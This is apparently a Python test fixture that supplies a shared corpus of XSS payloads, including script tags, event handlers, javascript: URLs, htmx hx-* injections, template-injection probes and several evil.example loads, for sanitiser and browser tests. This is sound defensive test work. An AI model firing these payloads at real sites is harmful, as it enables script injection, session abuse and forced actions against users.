"""One corpus of XSS payloads, shared by the Markdown unit test, the field-by-field page test and
the browser test.

Every payload that could create an element or run code carries a marker: an ``id`` starting
with ``xss`` or a call that sets ``window.__xss`` / opens a dialog, so the browser test can see
an injection that got through (``[id^=xss]``, ``window.__xss``, ``page.on("dialog")``) and the
HTML scanner (``tests/security/htmlscan.py``) can tell an injected ``hx-*`` attribute from the
page's own. ``TEMPLATE_PRODUCTS`` are numbers a template engine would print if it evaluated one
of the template-injection payloads.
"""

from __future__ import annotations

# The Markdown set (kept from tests/content/test_markdown.py; hx payloads carry a marker now).
MARKDOWN_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=\"javascript:alert(1)\">klik</a>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java\tscript:alert(1))",
    "[klik](&#106;avascript:alert(1))",
    "[klik](javascript&colon;alert(1))",
    "[klik](vbscript:msgbox(1))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![plaatje](javascript:alert(1))",
    "![x](https://evil.example/x.png\" onerror=\"alert(1))",
    "[klik](https://example.nl \"titel\" onmouseover=alert(1))",
    "<div hx-get=\"/beheer?xss\" hx-trigger=\"load\">x</div>",
    "<div data-hx-post=\"/uitloggen?xss\" data-hx-trigger=\"load\">x</div>",
    "<button hx-post=\"/redactie/items/1/verwijderen?xss\">ok</button>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<form action=https://evil.example><input name=x></form>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<a href='x' onclick='alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<img src=\"x\" \n onerror\n=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<<script>script>alert(1)<</script>/script>",
    "[<img src=x onerror=alert(1)>](https://example.nl)",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <script>x</script> | <img src=x onerror=alert(1)> |",
    "<base href=\"https://evil.example/\">",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](//evil.example)",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "**<span onmouseover=alert(1)>vet</span>**",
]

# Breaking out of attributes, text areas and other contexts; hx-*; SVG/MathML; unclosed markup;
# template injection; Markdown link tricks. Numbered markers make a survivor easy to find.
CONTEXT_PAYLOADS = [
    "\"><script id=xss-1>window.__xss=1</script>",
    "'><img id=xss-2 src=x onerror=window.__xss=2>",
    "\" onmouseover=\"window.__xss=3\" data-xss=\"3",
    "' autofocus onfocus='window.__xss=4' data-xss='4",
    "</textarea><script id=xss-5>window.__xss=5</script>",
    "</title><script id=xss-6>window.__xss=6</script>",
    "<div id=xss-7 hx-get=\"/uitloggen\" hx-trigger=\"load\">hx</div>",
    "<div id=xss-8 hx-on:htmx:load=\"window.__xss=8\" hx-on::load=\"window.__xss=8\">x</div>",
    "<a id=xss-9 href=\"javascript:window.__xss=9\">klik</a>",
    "<a id=xss-10 href=\"data:text/html,<script>alert(10)</script>\">d</a>",
    "<svg id=xss-11><animate onbegin=alert(11) attributeName=x dur=1s>",
    "<math id=xss-12><maction actiontype=statusline xlink:href=javascript:alert(12)>x</maction>",
    "<svg><foreignObject><iframe id=xss-13 srcdoc=\"<script>parent.__xss=13</script>\">",
    "{{ 7*7777777 }}",
    "{% print 7*7777778 %}",
    "${7*7777779}",
    "<img id=xss-17 src=x onerror=window.__xss=17",
    "<script id=xss-18>window.__xss=18",
    "<!-- <div id=xss-19>",
    "</script><script id=xss-20>window.__xss=20</script>",
    "</p></div></main></body><script id=xss-21>window.__xss=21</script>",
    "<input id=xss-22 autofocus onfocus=window.__xss=22>",
    "<iframe id=xss-23 src=\"javascript:parent.__xss=23\"></iframe>",
    "<form id=xss-24 action=\"javascript:alert(24)\"><button>x</button></form>",
    "<button id=xss-25 form=x formaction=javascript:alert(25)>x</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(26)\">",
    "<base href=\"javascript:alert(27)//\">",
    "[klik](javascript:window.__xss=28)",
    "![x](x\" id=\"xss-29\" onerror=\"alert(29))",
    "[a](https://example.nl \"t\\\" onmouseover=\\\"alert(30)\")",
    "<object id=xss-31 data=\"data:text/html,<script>alert(31)</script>\"></object>",
    "<div id=xss-32 hx-vals='js:{a:alert(32)}' hx-post=\"/vraag\" hx-trigger=load>x</div>",
    "<template shadowrootmode=open><img id=xss-33 src=x onerror=alert(33)></template>",
    "javascript:alert(34)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzNSk8L3NjcmlwdD4=",
    " JaVaScRiPt:alert(36)",
    "<a id=xss-37 href=\"&#0000106&#0000097vascript:alert(37)\">x</a>",
    "%3Cscript id%3Dxss-38%3Ealert(38)%3C/script%3E",
    "\\u003cscript id=xss-39\\u003ealert(39)\\u003c/script\\u003e",
    "<img id=xss-40 src=x:alert(40) onerror=eval(src)>",
    "<video id=xss-41><source onerror=alert(41)></video>",
    "<marquee id=xss-42 onstart=alert(42)>x</marquee>",
    "\"><svg/onload=alert(43) id=xss-43>",
    "'-alert(44)-'",
    "\";alert(45);//",
    "<a id=xss-46 href=# hx-get=/beheer hx-target=body hx-trigger=mouseover>x</a>",
    "<div id=xss-47 data-hx-on-click=\"alert(47)\">x</div>",
    "<x id=xss-48 hx-on-htmx-before-request=\"alert(48)\">x</x>",
    "<img id=xss-49 src=\"data:image/svg+xml,<svg onload=alert(49)>\">",
    "[click](<javascript:alert(50)>)",
    "[ref]\n\n[ref]: javascript:alert(51)",
    "<https://example.nl/\" onmouseover=\"alert(52)>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" id=xss-53>alert(53)</x:script>",
    "<svg><a xlink:href=\"javascript:alert(54)\"><text id=xss-54 x=20 y=20>x</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(55)</script>\" id=xss-55>",
    "<table><td background=\"javascript:alert(56)\" id=xss-56>",
    "<<img id=xss-57 src=x onerror=alert(57)//<",
    "<img id=\"xss-58\" src=x onerror=\"&#97;lert(58)\">",
    "<scr\u0130pt id=xss-59>alert(59)</scr\u0130pt>",
    "<div id=xss-60 style=\"width:expression(alert(60))\">x</div>",
]

PAYLOADS = MARKDOWN_PAYLOADS + CONTEXT_PAYLOADS

# What "{{ 7*7777777 }}" and its siblings would print if a template engine evaluated them.
TEMPLATE_PRODUCTS = [str(7 * 7777777), str(7 * 7777778), str(7 * 7777779)]


def chunks(max_len: int, payloads: list[str] | None = None, sep: str = " ") -> list[str]:
    """The corpus packed into values of at most ``max_len`` characters (fields with a length
    limit); a payload longer than the limit is cut."""
    out: list[str] = []
    current = ""
    for p in payloads if payloads is not None else PAYLOADS:
        p = p[:max_len]
        candidate = f"{current}{sep}{p}" if current else p
        if len(candidate) > max_len:
            out.append(current)
            current = p
        else:
            current = candidate
    if current:
        out.append(current)
    return out
